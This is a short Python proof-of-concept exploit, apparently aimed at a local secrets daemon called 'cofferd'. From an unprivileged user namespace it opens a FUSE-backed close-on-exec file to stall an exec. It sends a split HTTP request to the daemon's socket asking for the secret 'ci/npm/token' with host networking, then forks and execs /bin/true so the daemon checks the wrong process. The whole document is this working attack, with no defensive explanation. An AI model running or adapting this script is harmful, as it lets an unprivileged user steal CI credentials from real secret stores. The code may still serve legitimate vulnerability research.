# Run as an unprivileged user: holds its exec lock (exec of a program while a close-on-exec
# file on a FUSE mount whose FLUSH is never answered is open) just as cofferd is asked to
# examine it (POST /v1/runs, mount private from a user + mount namespace of its own).
# argv: FUSE_FILE SOCKET
import os, socket, ctypes, time, json, sys
libc = ctypes.CDLL(None, use_errno=True)
f = os.open(sys.argv[1], os.O_RDONLY | os.O_CLOEXEC)
CLONE_NEWUSER = 0x10000000; CLONE_NEWNET = 0x40000000; CLONE_NEWNS = 0x00020000
uid = os.getuid(); gid = os.getgid()
assert libc.unshare(CLONE_NEWUSER | CLONE_NEWNET | CLONE_NEWNS) == 0
open("/proc/self/setgroups", "w").write("deny")
open("/proc/self/uid_map", "w").write(f"{uid} {uid} 1")
open("/proc/self/gid_map", "w").write(f"{gid} {gid} 1")
s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[2])
os.set_inheritable(s.fileno(), True)
body = json.dumps({"secrets": [{"path": "ci/npm/token"}], "mount": "private", "network": "host"}).encode()
req = b"POST /v1/runs HTTP/1.1\r\nHost: coffer\r\nContent-Length: %d\r\n\r\n" % len(body) + body
s.sendall(req[:-1])
if os.fork() == 0:
    time.sleep(0.3); s.sendall(req[-1:]); time.sleep(60); os._exit(0)
os.execv("/bin/true", ["true"])
